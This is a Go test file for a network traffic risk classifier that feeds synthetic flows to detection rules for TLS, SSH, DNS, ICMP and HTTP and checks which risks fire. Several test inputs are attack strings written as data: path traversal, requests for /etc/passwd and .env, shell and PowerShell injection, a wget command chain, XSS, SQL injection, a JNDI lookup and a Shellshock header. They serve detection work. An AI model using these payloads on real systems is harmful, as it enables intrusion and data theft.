package risk

import (
	"flag"
	"fmt"
	"os"
	"strings"
	"testing"

	"netifyd/core/attr"
	"netifyd/core/proto"
)

var update = flag.Bool("update", false, "write docs/risks.md")

// talk makes what a flow shows out of text and numbers.
func talk(id proto.ID, facts attr.Facts, what ...any) *Input {
	in := &Input{Set: new(attr.Set), Proto: id, Facts: facts, IPProtocol: tcp, ServerPort: 443, ClientPort: 40000, Now: 1700000000, Remote: true, Whole: true, Src: new([16]byte), Dst: new([16]byte)}
	for i := 0; i < len(what); i += 2 {
		switch k := what[i].(attr.Key); v := what[i+1].(type) {
		case string:
			in.Set.PutString(k, v)
		case int:
			in.Set.PutUint(k, uint64(v))
		}
	}
	return in
}

func at(in *Input, port uint16) *Input { in.ServerPort = port; return in }

// tls13 is a flow of TLS 1.3 and whatever else.
func tls(facts attr.Facts, what ...any) *Input {
	return talk(proto.HTTPS, facts, append([]any{attr.TLSVersion, 0x0304, attr.TLSCipher, 0x1301}, what...)...)
}

// certified is a flow whose certificate has issuer, subject, and a time from and to, in days from now.
func certified(issuer, subject string, from, to int) *Input {
	const now = 1700000000
	return talk(proto.HTTPS, 0, attr.TLSVersion, 0x0303, attr.TLSCipher, 0xc02f, attr.TLSIssuerDN, issuer, attr.TLSSubjectDN, subject,
		attr.TLSNotBefore, now+from*day, attr.TLSNotAfter, now+to*day)
}

func get(url, agent string) *Input {
	return at(talk(proto.HTTP, 0, attr.HTTPMethod, "GET", attr.HTTPURL, url, attr.HTTPUserAgent, agent), 80)
}

func ask(name string, kind int) *Input {
	return at(talk(proto.DNS, 0, attr.HostName, name, attr.DNSQuery, name, attr.DNSType, kind), 53)
}

func named(name string) *Input { return at(talk(proto.DNS, 0, attr.HostName, name), 53) }

func ping(b string) *Input {
	in := talk(proto.ICMP, 0)
	in.Payload = []byte(b)
	sum := add(0, in.Payload)
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	in.Payload[2], in.Payload[3] = byte(^sum>>8), byte(^sum)
	return in
}

// noise is n bytes that look like a cipher's.
func noise(n int) string {
	b, x := make([]byte, n), uint32(7)
	for i := range b {
		x ^= x << 13
		x ^= x >> 17
		x ^= x << 5
		b[i] = byte(x >> 11)
	}
	return string(b)
}

const agent = "Mozilla/5.0 (X11; Linux x86_64; rv:120.0) Gecko/20100101 Firefox/120.0"

// cases has for each rule flows that bear its risk and that do not: each flow
// bears what is named and nothing else.
var cases = []struct {
	what string
	in   *Input
	want []ID
}{
	{"a page", get("www.example.org/index.html?q=a+b&from=select", agent), nil},
	{"a program", at(talk(proto.HTTP, attr.Executable, attr.HTTPMethod, "GET", attr.HTTPURL, "www.example.org/setup.exe"), 80), []ID{BinaryTransfer}},
	{"a program as a picture", at(talk(proto.HTTP, attr.Executable|attr.Disguised, attr.HTTPMethod, "GET"), 80), []ID{BinaryTransfer, HTTPContent}},
	{"a password", at(talk(proto.POP3, attr.Credentials), 110), []ID{Credentials}},
	{"mail without one", at(talk(proto.POP3, 0), 110), nil},
	{"a desktop", at(talk(proto.VNC, 0), 5900), []ID{DesktopSharing}},
	{"a debugger", at(talk(proto.ADB, 0), 5555), nil},
	{"an answer in fragments", func() *Input { in := named("www.example.org"); in.Fragmented = true; return in }(), []ID{FragmentedDNS}},
	{"a large answer", func() *Input { in := named("www.example.org"); in.Facts = attr.LargeDNS; return in }(), []ID{LargeDNS}},
	{"a question of type NULL", ask("pa.example.org", 10), []ID{SuspiciousDNS}},
	{"a question of a tunnel", ask(strings.Repeat("dnsc4t7abc9f3e5d8a1b", 2)+"a9f."+strings.Repeat("e4d2c7b9a1f0", 5)+".example.org", 16), []ID{SuspiciousDNS}},
	{"a long name of words", ask("this-is-a-long-name-of-words-and-more-words.of-a-service."+strings.Repeat("and-so-on.", 6)+"example.org", 16), nil},
	{"a short question", ask("www.example.org", 1), nil},
	{"a robot", get("www.example.org/", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"), []ID{Crawler}},
	{"an address", get("203.0.113.9/index.html", agent), []ID{NumericHost}},
	{"an address with a port", get("203.0.113.9:80/", agent), []ID{NumericHost}},
	{"an address of IPv6", get("[2001:db8::1]/", agent), []ID{NumericHost}},
	{"a name like an address", get("203.0.113.9.example.org/", agent), nil},
	{"a date as a name", get("2023.11.14/", agent), nil},
	{"two hosts", at(talk(proto.HTTP, attr.TwoHosts, attr.HTTPMethod, "GET"), 80), []ID{HTTPHeader}},
	{"two lengths", at(talk(proto.HTTP, attr.Smuggling, attr.HTTPMethod, "POST"), 80), []ID{HTTPHeader}},
	{"a way out", get("www.example.org/cgi-bin/..%2f..%2fconf", agent), []ID{HTTPURL}},
	{"a way out, half coded", get("www.example.org/icons/.%2E/%2e./x", agent), []ID{HTTPURL}},
	{"a way out, coded twice", get("www.example.org/icons/%252e%252e%252fx", agent), []ID{HTTPURL}},
	{"names with dots", get("www.example.org/a..b/.well-known/x.%2520y", agent), nil},
	{"a file of the system", get("www.example.org/?f=/etc/passwd", agent), []ID{HTTPURL}},
	{"a file of an old system", get("www.example.org/?f=C:\\win.ini", agent), []ID{HTTPURL}},
	{"the same, coded", get("www.example.org/?f=c%3a%5cboot.ini%00", agent), []ID{HTTPURL}},
	{"an environment's file", get("www.example.org/.env", agent), []ID{HTTPURL}},
	{"scripts with such letters", get("www.example.org/js/boot.init.js?darwin.init=1&x=/.environment", agent), nil},
	{"programs with such letters", get("www.example.org/bin/show?thread=1&y=/bin/bashful", agent), nil},
	{"a shell", get("www.example.org/x?y=/bin/sh", agent), []ID{RCEInjection}},
	{"a package of a shell", get("www.example.org/powershell/7.4/install-powershell-core", agent), nil},
	{"a shell with a command", get("www.example.org/?x=powershell%20-enc%20aQ", agent), []ID{RCEInjection}},
	{"a script in a picture", get("www.example.org/?q=<img%20src=x%20onerror=alert(1)>", agent), []ID{XSSAttack}},
	{"a picture that an advertisement hands on", get("www.example.org/p?html=%3Cimg%20src%3D%22a.png%22%3E&onload=ready", agent), nil},
	{"a torrent's hash", func() *Input {
		in := get("tracker.example.org/announce?info_hash=%00%2f..%2f%12", agent)
		in.Proto = proto.BitTorrent
		return in
	}(), nil},
	{"a phone called Cubot", get("www.example.org/", "Mozilla/5.0 (Linux; Android 9; CUBOT X18 Build/P) AppleWebKit/537.36"), nil},
	{"a game of spiders", get("www.example.org/", "SpiderSolitaire/2.1 CFNetwork/1408.0.4"), nil},
	{"a spider", get("www.example.org/", "Mozilla/5.0 (compatible; Baiduspider/2.0; +http://www.baidu.com/search/spider.html)"), []ID{Crawler}},
	{"a scanner", get("www.example.org/", "sqlmap/1.7.2#stable (https://sqlmap.org)"), []ID{HTTPUserAgent}},
	{"a lookup", get("www.example.org/?x=${jndi:ldap://203.0.113.9/a}", agent), []ID{Exploit}},
	{"a function of the shell", get("www.example.org/", "() { :; }; echo"), []ID{HTTPUserAgent, Exploit}},
	{"commands", get("www.example.org/shell?cd+/tmp;wget+http://x", agent), []ID{RCEInjection}},
	{"SQL", get("www.example.org/?id=1%20UNION%20SELECT%20name", agent), []ID{SQLInjection}},
	{"a script", get("www.example.org/?q=<ScRiPt>alert(1)</script>", agent), []ID{XSSAttack}},
	{"SSH elsewhere", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-OpenSSH_9.2p1"), 8000), []ID{OddPort}},
	{"SSH at its port", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-OpenSSH_9.2p1"), 22), nil},
	{"an answer from the port", func() *Input { in := at(talk(proto.DNS, 0), 40000); in.ClientPort = 53; return in }(), nil},
	{"HTTP of a device", func() *Input { in := at(get("tv.lan/", agent), 49152); in.Remote = false; return in }(), nil},
	{"HTTP elsewhere", at(get("www.example.org/", agent), 4444), []ID{OddPort}},
	{"a ping", ping("\x08\x00\x00\x00\x00\x01\x00\x01abcdefghijklmnopqrstuvw"), nil},
	{"a damaged ping", func() *Input { in := ping("\x08\x00\x00\x00\x00\x01\x00\x01abcdefghij"); in.Payload[9]++; return in }(), []ID{Malformed}},
	{"a ping that was cut", func() *Input {
		in := ping("\x08\x00\x00\x00\x00\x01\x00\x01abcdefghij")
		in.Payload, in.Whole = in.Payload[:12], false
		return in
	}(), nil},
	{"a tunnel of pings", ping("\x08\x00\x00\x00\x00\x01\x00\x01" + noise(400)), []ID{Entropy}},
	{"a large ping", ping("\x08\x00\x00\x00\x00\x01\x00\x01" + strings.Repeat("abcdefghijklmnopqrstuvw", 40)), nil},
	{"a ping of counted bytes", ping("\x08\x00\x00\x00\x00\x01\x00\x01" + counted(1000)), nil},
	{"a name that looks alike", named("xn--80ak6aa92e.com"), []ID{IDN}},
	{"one foreign letter", named("www.xn--pypal-4ve.com"), []ID{IDN}},
	{"a German name", named("xn--mnchen-3ya.de"), nil},
	{"a Turkish name", named("xn--arclk-o4abb.com.tr"), nil},
	{"a Russian name", named("xn--e1afmkfd.xn--p1ai"), nil},
	{"a Russian word", named("xn--e1afmkfd.com"), nil},
	{"version 1 of SMB", at(talk(proto.SMBv1, 0), 445), []ID{InsecureSMB}},
	{"version 3", at(talk(proto.SMBv23, 0), 445), nil},
	{"an old client", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-OpenSSH_5.9p1 Debian-5ubuntu1"), 22), []ID{ObsoleteSSH}},
	{"an old PuTTY", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-PuTTY_Release_0.60"), 22), []ID{ObsoleteSSH}},
	{"a new PuTTY", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-PuTTY_Release_0.81"), 22), nil},
	{"an old libssh2", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-libssh2_1.4.3"), 22), []ID{ObsoleteSSH}},
	{"a new libssh2", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-libssh2_1.11.0"), 22), nil},
	{"an old paramiko", at(talk(proto.SSH, 0, attr.SSHClient, "SSH-2.0-paramiko_1.16.0"), 22), []ID{ObsoleteSSH}},
	{"a client's broken cipher", at(talk(proto.SSH, attr.WeakClientSSH, attr.SSHClient, "SSH-2.0-x"), 22), []ID{ObsoleteSSH}},
	{"version 1 of SSH", at(talk(proto.SSH, 0, attr.SSHServer, "SSH-1.5-1.2.27"), 22), []ID{ObsoleteSSHD}},
	{"both versions", at(talk(proto.SSH, 0, attr.SSHServer, "SSH-1.99-OpenSSH_8.0"), 22), nil},
	{"a server's broken cipher", at(talk(proto.SSH, attr.WeakServerSSH, attr.SSHServer, "SSH-2.0-dropbear_2022.83"), 22), []ID{ObsoleteSSHD}},
	{"an old Dropbear", at(talk(proto.SSH, 0, attr.SSHServer, "SSH-2.0-dropbear_2014.63"), 22), []ID{ObsoleteSSHD}},
	{"a generated name", named("qxkvjzwpfhgt.com"), []ID{GeneratedName}},
	{"a known one", func() *Input { in := named("qxkvjzwpfhgt.com"); in.Known = true; return in }(), nil},
	{"a name under a provider's", named("r4---sn-4g5ednsl.example.com"), nil},
	{"a browser's question who answers", named("qxkvjzwpfhgt.home"), nil},
	{"a name of Tor's own", named("qxkvjzwpfhgt4xyz.onion"), nil},
	{"a short name", named("bbc.co.uk"), nil},
	{"good TLS", tls(0, attr.TLSALPN, "h2"), nil},
	{"ends soon", certified("CN=ca", "CN=a", -84, 6), []ID{CertificateEnds}},
	{"made for six days", certified("CN=ca", "CN=a", -2, 4), nil},
	{"ended", certified("CN=ca", "CN=a", -90, -1), []ID{CertificateEnded}},
	{"not begun", certified("CN=ca", "CN=a", 1, 90), []ID{CertificateEnded}},
	{"for other names", tls(attr.OtherName), []ID{CertificateOther}},
	{"a VPN's own", at(talk(proto.OpenVPN, attr.OtherName, attr.TLSVersion, 0x0303), 1194), nil},
	{"for too long", certified("CN=ca", "CN=a", -10, 3650), []ID{CertificateLong}},
	{"for a year", certified("CN=ca", "CN=a", -10, 380), nil},
	{"for two years, in 2019", func() *Input {
		in := certified("CN=ca", "CN=a", -1500, -700)
		in.Now -= 1000 * day
		return in
	}(), nil},
	{"an alert", tls(attr.FatalAlert), []ID{TLSAlert}},
	{"no name", tls(attr.NoServerName), []ID{NoServerName}},
	{"a resolver known by its address", at(talk(proto.DoT, attr.NoServerName, attr.TLSVersion, 0x0304), 853), nil},
	{"TLS inside of XMPP", at(talk(proto.XMPPS, attr.NoServerName, attr.TLSVersion, 0x0304), 5222), nil},
	{"a call", talk(proto.DTLS, attr.NoServerName, attr.TLSVersion, 0xfefd), nil},
	{"TLS 1.0", talk(proto.HTTPS, 0, attr.TLSVersion, 0x0301, attr.TLSCipher, 0xc013), []ID{ObsoleteTLS}},
	{"DTLS 1.0", talk(proto.DTLS, 0, attr.TLSVersion, 0xfeff), []ID{ObsoleteTLS}},
	{"signed by itself", certified("CN=a,O=b", "CN=a,O=b", -10, 3650), []ID{SelfSigned}},
	{"a desktop's own", at(talk(proto.RDP, 0, attr.TLSVersion, 0x0303, attr.TLSIssuerDN, "CN=PC", attr.TLSSubjectDN, "CN=PC"), 3389), []ID{DesktopSharing}},
	{"a Chromecast's own", func() *Input {
		in := at(talk(proto.TLS, attr.NoServerName, attr.TLSVersion, 0x0303, attr.TLSIssuerDN, "CN=a", attr.TLSSubjectDN, "CN=a"), 8009)
		in.Remote = false
		return in
	}(), nil},
	{"the same elsewhere", at(talk(proto.TLS, attr.NoServerName, attr.TLSVersion, 0x0303, attr.TLSIssuerDN, "CN=a", attr.TLSSubjectDN, "CN=a"), 8009), []ID{NoServerName, SelfSigned}},
	{"a call's own", talk(proto.DTLS, 0, attr.TLSVersion, 0xfefd, attr.TLSIssuerDN, "CN=WebRTC", attr.TLSSubjectDN, "CN=WebRTC"), nil},
	{"a hidden name", tls(0, attr.TLSECH, "offered", attr.TLSECHVersion, 0xfe0d), []ID{EncryptedName}},
	{"a filler", tls(0, attr.TLSECH, "grease", attr.TLSECHVersion, 0xfe0d), nil},
	{"ESNI", tls(0, attr.TLSECHVersion, 0xffce), []ID{EncryptedName}},
	{"an odd protocol", tls(0, attr.TLSALPN, "h2", attr.TLSALPN, "c2-7"), []ID{OddALPN}},
	{"RC4", talk(proto.HTTPS, 0, attr.TLSVersion, 0x0303, attr.TLSCipher, 0x0005), []ID{WeakCipher}},
	{"3DES", talk(proto.HTTPS, 0, attr.TLSVersion, 0x0303, attr.TLSCipher, 0xc012), []ID{WeakCipher}},
	{"AES", talk(proto.HTTPS, 0, attr.TLSVersion, 0x0303, attr.TLSCipher, 0x002f), nil},
	{"ChaCha20", talk(proto.HTTPS, 0, attr.TLSVersion, 0x0303, attr.TLSCipher, 0xcca8), nil},
	{"no protocol", tls(attr.NoALPN), []ID{NoALPN}},
	{"no protocol elsewhere", at(tls(attr.NoALPN), 8443), nil},
}

func counted(n int) string {
	b := make([]byte, n)
	for i := range b {
		b[i] = byte(i)
	}
	return string(b)
}

func TestRules(t *testing.T) {
	tried := map[ID]bool{}
	for _, c := range cases {
		want := Set(0)
		for _, id := range c.want {
			want |= 1 << id
			tried[id] = true
		}
		if got := Judge(c.in, 0); got != want {
			t.Errorf("%s: %s, want %s", c.what, namesOf(got), namesOf(want))
		}
		if got := Judge(c.in, want); got != 0 {
			t.Errorf("%s: switched off, and still %s", c.what, namesOf(got))
		}
		if n := testing.AllocsPerRun(10, func() { Judge(c.in, 0) }); n != 0 {
			t.Errorf("%s: %v allocations", c.what, n)
		}
	}
	for _, r := range Rules {
		if (r.When != nil || r.Facts != 0) && !tried[r.ID] {
			t.Errorf("no flow bears %s", r.Name)
		}
	}
}

func namesOf(s Set) string {
	var all []string
	for id := range ID(64) {
		if s.Has(id) {
			all = append(all, id.Name())
		}
	}
	return "[" + strings.Join(all, ", ") + "]"
}

func TestTable(t *testing.T) {
	last := ID(0)
	for _, r := range Rules {
		if r.ID <= last || r.Name == "" || r.How == "" || r.Source == "" || r.Severity == 0 || r.Bearer == 0 || !r.ID.Decided() {
			t.Errorf("%+v", r)
		}
		last = r.ID
		if id, ok := Parse(strings.ToUpper(r.Name)); !ok || id != r.ID {
			t.Errorf("%s is %d", r.Name, id)
		}
		if id, ok := Parse(fmt.Sprint(r.ID)); !ok || id != r.ID {
			t.Errorf("%d is %d", r.ID, id)
		}
	}
	for _, name := range []string{"", "34", "99", "fun", "1000"} {
		if id, ok := Parse(name); ok {
			t.Errorf("%q is %d", name, id)
		}
	}
	last2 := uint16(0)
	for _, w := range weakSuites {
		if w.from <= last2 && last2 != 0 || w.to < w.from {
			t.Errorf("%x is out of order", w.from)
		}
		last2 = w.to
	}
}

func TestScore(t *testing.T) {
	for _, c := range []struct {
		risks                 Set
		total, client, server uint16
	}{
		{0, 0, 0, 0},
		{1 << NumericHost, 10, 9, 1},
		{1<<SelfSigned | 1<<ObsoleteTLS, 200, 60, 140},
		{1 << 63, 0, 0, 0},
	} {
		if total, client, server := c.risks.Score(); total != c.total || client != c.client || server != c.server {
			t.Errorf("%s: %d %d %d", namesOf(c.risks), total, client, server)
		}
	}
}

// TestPage holds docs/risks.md to the table; -update writes it.
func TestPage(t *testing.T) {
	const path = "../../docs/risks.md"
	text, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	const begin, end = "<!-- risks: generated by `go test ./core/risk -run Page -update` -->\n", "<!-- end of risks -->\n"
	before, rest, ok := strings.Cut(string(text), begin)
	_, after, ok2 := strings.Cut(rest, end)
	if !ok || !ok2 {
		t.Fatal("docs/risks.md lacks its marks")
	}
	page := before + begin + table() + end + after
	if *update {
		if err := os.WriteFile(path, []byte(page), 0o644); err != nil {
			t.Fatal(err)
		}
	} else if page != string(text) {
		t.Error("docs/risks.md is old: go test ./core/risk -run Page -update")
	}
}

func table() string {
	var b strings.Builder
	b.WriteString("| number | risk | severity | adds | counts for | what decides it | source |\n|---|---|---|---|---|---|---|\n")
	for _, r := range Rules {
		fmt.Fprintf(&b, "| %d | %s | %s | %d | %s | %s | %s |\n", r.ID, r.Name, r.Severity, r.Severity, r.Bearer, r.How, r.Source)
	}
	b.WriteString("\nUsual ports of *Known Protocol on Non-standard Port*; HTTP is only asked of servers outside:\n\n| protocol | ports |\n|---|---|\n")
	proto.All(func(id proto.ID, name string) {
		if list := usual[id]; len(list) > 0 {
			fmt.Fprintf(&b, "| %s | %s |\n", name, strings.Trim(strings.ReplaceAll(fmt.Sprint(list), " ", ", "), "[]"))
		}
	})
	b.WriteString("\nThese numbers of the original have a name, and no rule here:\n\n")
	for id, name := range names {
		if name != "" && !ID(id).Decided() {
			fmt.Fprintf(&b, "* %d %s\n", id, name)
		}
	}
	return b.String()
}
